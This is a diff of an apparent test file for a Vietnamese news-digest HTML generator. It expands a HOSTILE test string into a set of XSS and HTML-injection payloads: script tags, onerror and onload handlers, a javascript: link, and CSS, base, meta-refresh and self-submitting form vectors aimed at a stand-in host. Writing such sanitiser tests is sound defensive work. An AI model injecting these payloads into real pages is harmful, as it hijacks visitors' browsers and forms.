@@ -18,7 +18,12 @@ BODY = (
 )
 OLD_BODY = BODY.replace("6,8%", "7,8%").replace("dây chuyền lắp ráp bảng mạch", "dây chuyền bảng mạch")
 LEAD = "Dây chuyền mới nâng công suất nhà máy Sao Mai thêm một nửa, toàn bộ kho hàng được quản lý bằng mã số."
-HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)> & «lạ»'
+HOSTILE = (
+    '<script>alert("x")</script><img src=x onerror=alert(1)><svg onload=alert(2)> & «lạ»'
+    "<style>*{background:url(http://192.0.2.1/css)}</style><base href=http://192.0.2.1/>"
+    '<meta http-equiv=refresh content="0;url=http://192.0.2.1/"><a href="javascript:alert(3)">'
+    "<form action=http://192.0.2.1/><input autofocus onfocus=this.form.submit()></form>"
+)
 EDITION = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Điểm tin sáng</title>
 <style>body{font-family:sans-serif}</style></head><body><h1 style="color:#23604a">Điểm tin sáng số 7</h1>
 <p>I. Công nghiệp</p><p><b>Dây chuyền thứ ba</b> — <a href="https://trungdu.example/1">Báo Trung Du</a></p>
